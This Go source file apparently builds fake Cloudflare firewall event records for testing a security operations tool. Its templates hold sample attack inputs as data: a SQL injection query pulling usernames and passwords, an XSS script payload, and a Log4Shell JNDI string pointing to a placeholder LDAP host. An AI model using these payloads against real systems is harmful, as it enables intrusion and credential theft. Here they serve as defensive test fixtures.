package fake

import (
	"fmt"
	"time"

	"github.com/outpost-soc/outpost/sdk/fakevendor"
)

// kind is the GraphQL type of a firewallEventsAdaptive field.
type kind int

const (
	kString kind = iota
	kInt
	kTime
)

// eventFields are the fields of a firewallEventsAdaptive row the fake
// serves, with their types: the ones Cloudflare's examples and public
// integrations select.
var eventFields = map[string]kind{
	"action":                      kString,
	"clientASNDescription":        kString,
	"clientAsn":                   kString,
	"clientCountryName":           kString,
	"clientIP":                    kString,
	"clientRequestHTTPHost":       kString,
	"clientRequestHTTPMethodName": kString,
	"clientRequestHTTPProtocol":   kString,
	"clientRequestPath":           kString,
	"clientRequestQuery":          kString,
	"clientRequestScheme":         kString,
	"datetime":                    kTime,
	"description":                 kString,
	"edgeColoName":                kString,
	"edgeResponseStatus":          kInt,
	"kind":                        kString,
	"matchIndex":                  kInt,
	"originResponseStatus":        kInt,
	"rayName":                     kString,
	"ruleId":                      kString,
	"rulesetId":                   kString,
	"sampleInterval":              kInt,
	"source":                      kString,
	"userAgent":                   kString,
}

// template is one kind of firewall event the fake makes.
type template struct {
	source, action, ruleID, rulesetID, description string
	method, path, query                            string
	edge, origin                                   int
	ua                                             string
}

const (
	managedRuleset = "efb7b8c949ac4650a09736fc376e9aee" // Cloudflare Managed Ruleset
	owaspRuleset   = "4814384a9e5d4991b9815dcfc25d2f1f" // Cloudflare OWASP Core Ruleset
	customRuleset  = "2b3e5a7c9d1f4e6a8b0c2d4e6f8a0b1c"
	ddosRuleset    = "4d21379b4f9f4bb088e0729962c8b3cf" // HTTP DDoS Attack Protection
)

var templates = []template{
	{source: "firewallManaged", action: "block", ruleID: "6179ae15870a4bb7b2d480d4843b323c", rulesetID: managedRuleset,
		description: "SQLi - UNION in MSSQL - Body", method: "GET", path: "/products.php", query: "?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
		edge: 403, ua: "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{source: "firewallManaged", action: "log", ruleID: "2d5c3b8e4f1a4c7d9e0b6a8f1c3e5d7b", rulesetID: owaspRuleset,
		description: "XSS - HTML Injection", method: "GET", path: "/search", query: "?q=%3Cscript%3Ealert(1)%3C/script%3E",
		edge: 200, origin: 200},
	{source: "firewallManaged", action: "block", ruleID: "e3a567afc347477d9702d9047e97d760", rulesetID: managedRuleset,
		description: "Log4j Headers", method: "GET", path: "/", ua: "${jndi:ldap://203.0.113.200:1389/a}", edge: 403},
	{source: "firewallCustom", action: "block", ruleID: "0f1e2d3c4b5a49687766554433221100", rulesetID: customRuleset,
		description: "Block wp-admin outside the office", method: "POST", path: "/wp-login.php", edge: 403},
	{source: "firewallCustom", action: "managed_challenge", ruleID: "8a7b6c5d4e3f40918273645566778899", rulesetID: customRuleset,
		description: "Challenge logins from high-risk countries", method: "POST", path: "/account/login", edge: 403},
	{source: "firewallCustom", action: "skip", ruleID: "1122334455667788990011223344556a", rulesetID: customRuleset,
		description: "Allow the uptime monitor", method: "GET", path: "/healthz", edge: 200, origin: 200,
		ua: "UptimeRobot/2.0 (http://www.uptimerobot.com/)"},
	{source: "ratelimit", action: "block", ruleID: "7c6b5a4f3e2d41c0b9a8f7e6d5c4b3a2", rulesetID: customRuleset,
		description: "Login rate limit: 5 per minute", method: "POST", path: "/api/v1/login", edge: 429},
	{source: "l7ddos", action: "block", ruleID: "fdfdac75430c4c47a422bdc024aba531", rulesetID: ddosRuleset,
		description: "HTTP requests with unusual HTTP headers or URI path (signature #58)", method: "GET", path: "/", edge: 403},
	{source: "securityLevel", action: "managed_challenge", method: "GET", path: "/", edge: 403},
	{source: "bic", action: "block", method: "GET", path: "/cart", ua: "", edge: 403},
	{source: "uaBlock", action: "block", ruleID: "3a9c1d7e5b2f4a6c8e0d2b4f6a8c0e1d", method: "GET", path: "/.env", ua: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", edge: 403},
	{source: "botFight", action: "managed_challenge", method: "GET", path: "/pricing", edge: 403, ua: "python-requests/2.31.0"},
	{source: "firewallCustom", action: "managed_challenge_interactive_solved", ruleID: "8a7b6c5d4e3f40918273645566778899", rulesetID: customRuleset,
		description: "Challenge logins from high-risk countries", method: "POST", path: "/account/login", edge: 200, origin: 200},
}

type client struct {
	ip, country, asn, asnDesc string
}

// Addresses are from the documentation ranges (RFC 5737, RFC 3849).
var clients = []client{
	{"203.0.113.69", "GB", "5089", "NTL"},
	{"198.51.100.7", "US", "14061", "DIGITALOCEAN-ASN"},
	{"192.0.2.200", "NL", "60781", "LEASEWEB-NL-AMS-01"},
	{"2001:db8:85a3::8a2e:370:7334", "DE", "24940", "HETZNER-AS"},
	{"203.0.113.14", "BR", "28573", "CLARO S.A."},
	{"198.51.100.201", "SG", "16509", "AMAZON-02"},
}

var (
	hosts  = []string{"www.example.com", "api.example.com", "shop.example.com"}
	colos  = []string{"LHR", "IAD", "AMS", "FRA", "GRU", "SIN"}
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"curl/8.5.0",
	}
)

// RayName is the ray id of the firewall event the fake renders for a:
// 16 hex digits, unique per alert and stable for a seed.
func RayName(a *fakevendor.Alert) string {
	return fmt.Sprintf("%08x%08x", uint32(a.Rand>>32)^uint32(a.Seq), uint32(a.Seq))
}

// datetime is an event's time as the dataset has it: whole seconds.
func datetime(a *fakevendor.Alert) time.Time { return a.Time.UTC().Truncate(time.Second) }

// render makes the firewall event row of alert a: every field, by name.
func render(a *fakevendor.Alert) map[string]any {
	r := a.Rand
	t := templates[r%uint64(len(templates))]
	c := clients[(r>>8)%uint64(len(clients))]
	ua := t.ua
	if ua == "" && t.source != "bic" {
		ua = agents[(r>>16)%uint64(len(agents))]
	}
	return map[string]any{
		"action":                      t.action,
		"clientASNDescription":        c.asnDesc,
		"clientAsn":                   c.asn,
		"clientCountryName":           c.country,
		"clientIP":                    c.ip,
		"clientRequestHTTPHost":       hosts[(r>>24)%uint64(len(hosts))],
		"clientRequestHTTPMethodName": t.method,
		"clientRequestHTTPProtocol":   "HTTP/2",
		"clientRequestPath":           t.path,
		"clientRequestQuery":          t.query,
		"clientRequestScheme":         "https",
		"datetime":                    datetime(a).Format(time.RFC3339),
		"description":                 t.description,
		"edgeColoName":                colos[(r>>32)%uint64(len(colos))],
		"edgeResponseStatus":          t.edge,
		"kind":                        "firewall",
		"matchIndex":                  0,
		"originResponseStatus":        t.origin,
		"rayName":                     RayName(a),
		"ruleId":                      t.ruleID,
		"rulesetId":                   t.rulesetID,
		"sampleInterval":              1,
		"source":                      t.source,
		"userAgent":                   ua,
	}
}
